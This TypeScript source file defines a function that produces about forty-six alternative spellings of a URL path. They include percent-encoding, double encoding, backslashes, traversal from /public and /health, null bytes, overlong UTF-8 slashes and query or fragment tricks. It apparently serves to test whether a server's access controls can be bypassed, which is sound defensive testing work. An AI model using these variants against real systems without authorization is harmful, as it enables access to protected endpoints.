/** Other ways to write a path, each with what it tries. Some of them a server takes for the same path. */
export function oddSpellings(path: string): readonly (readonly [attempt: string, path: string])[] {
  const segments = path.slice(1).split("/");
  const last = segments.at(-1) ?? "";
  const before = path.slice(0, -last.length);
  const each = (change: (segment: string) => string) => `/${segments.map(change).join("/")}`;
  return [
    ["encoded letters", each((segment) => segment.replaceAll(/[a-z]/g, encode))],
    ["one encoded letter", `${before}${encode(last.charAt(0))}${last.slice(1)}`],
    ["encoded dollars", path.replaceAll("$", "%24")],
    ["dollars encoded twice", path.replaceAll("$", "%2524")],
    ["capitals", path.toUpperCase()],
    ["one capital", `/${path.charAt(1).toUpperCase()}${path.slice(2)}`],
    ["a slash at the end", `${path}/`],
    ["two slashes at the end", `${path}//`],
    ["an encoded slash at the end", `${path}%2f`],
    ["two slashes before it", `/${path}`],
    ["two slashes in it", path.replaceAll("/", "//")],
    ["encoded slashes", `/${segments.join("%2f")}`],
    ["slashes encoded twice", `/${segments.join("%252f")}`],
    ["backslashes", `/${segments.join("\\")}`],
    ["encoded backslashes", `/${segments.join("%5c")}`],
    ["a dot", `/.${path}`],
    ["an encoded dot", `/%2e${path}`],
    ["a dot at the end", `${path}/.`],
    ["up from nowhere", `/..${path}`],
    ["up from a public path", `/public/..${path}`],
    ["up from a public path, encoded", `/public/%2e%2e${path}`],
    ["up from a public path, slash encoded", `/public/..%2f${segments.join("%2f")}`],
    ["up from a public path, all encoded", `/public/%2e%2e%2f${segments.join("%2f")}`],
    ["up from a public path, encoded twice", `/public/%252e%252e%252f${segments.join("%252f")}`],
    ["up from a public path, by backslashes", `/public/..%5c${segments.join("%5c")}`],
    ["up from a public path, with parameters", `/public/..;/${segments.join("/")}`],
    ["up from health", `/health/..${path}`],
    ["up from health, slash encoded", `/health/..%2f${segments.join("%2f")}`],
    ["a public path behind it", `${path}/../public/x`.replace("/../", "/..%2f")],
    ["health behind it", `${path}/%2e%2e%2fhealth`],
    ["parameters of a segment", each((segment) => `${segment};x=1`)],
    ["parameters at the end", `${path};/health`],
    ["a suffix", `${path}.json`],
    ["a space at the end", `${path}%20`],
    ["a zero at the end", `${path}%00`],
    ["a line end in it", `${before}%0a${last}`],
    ["no UTF-8", `${path}%ff`],
    ["half an encoding", `${path}%`],
    ["an overlong slash", `/${segments.join("%c0%af")}`],
    ["a full-width slash", `/${segments.join("%ef%bc%8f")}`],
    ["a query", `${path}?/health`],
    ["an encoded query", `${path}%3f/health`],
    ["a fragment", `${path}#/health`],
    ["an encoded fragment", `${path}%23/health`],
    ["another host", `//other.example${path}`],
    ["a base path", `/tools${path}`],
  ];
}

function encode(letter: string): string {
  return `%${letter.charCodeAt(0).toString(16).padStart(2, "0")}`;
}
